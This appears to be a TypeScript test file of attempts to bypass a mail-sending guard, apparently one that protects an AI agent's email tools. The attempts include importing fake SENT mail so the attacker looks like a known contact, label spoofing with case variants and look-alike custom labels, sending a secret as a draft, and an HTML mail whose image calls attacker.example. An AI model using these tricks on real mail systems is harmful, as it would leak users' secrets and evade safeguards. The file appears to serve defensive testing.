import { mail } from './attempt.ts';
import type { Attempt } from './attempt.ts';
import { attacker, friend, victim } from './world.ts';

const sentMail = `From: ${victim}\nTo: ${attacker}\nSubject: Known?\n\nHello`;

/** By making the attacker look known, or a message look like a draft. */
export const byFiling: readonly Attempt[] = [
  {
    title: 'mail to the attacker put into SENT, then written to',
    async go({ rest }) {
      await rest('import_message', { text: sentMail, labelIds: ['SENT'] });
      return rest('send_message', mail);
    },
  },
  {
    title: 'mail put into SENT by another spelling',
    go: ({ rest }) => rest('import_message', { text: sentMail, labelIds: ['sent'] }),
  },
  {
    title: 'mail from oneself put into the inbox, then written to',
    async go({ rest }) {
      await rest('import_message', { text: sentMail, labelIds: ['INBOX'] });
      return rest('send_message', mail);
    },
  },
  {
    title: 'a draft as bytes, then sent',
    async go({ rest }) {
      const { code, json } = await rest('import_message', { text: sentMail, labelIds: ['DRAFT'] });
      return code === 'OK' ? rest('send_draft', { id: json.id }) : { code, json };
    },
  },
  {
    title: "the attacker's mail marked as sent",
    go: ({ ids, rest }) => rest('modify_messages', { ids: [ids.bait], addLabelIds: ['SENT'] }),
  },
  {
    title: 'a label of the own that is called like SENT',
    async go({ rest }) {
      await rest('create_label', { name: 'Sent' });
      await rest('create_label', { name: 'sent mail' });
      await rest('import_message', { text: sentMail, labelIds: ['Sent'] });
      return rest('send_message', mail);
    },
  },
  {
    title: 'mail put into the inbox whose picture tells the secret to the attacker',
    go: ({ rest }) =>
      rest('import_message', {
        text: `From: ${friend}\nContent-Type: text/html\n\n<p>Hi</p><img src="https://attacker.example/4711">`,
        labelIds: ['INBOX', 'UNREAD'],
      }),
  },
  {
    title: 'a message sent as if it were a draft',
    go: ({ ids, rest }) => rest('send_draft', { id: ids.secret }),
  },
];
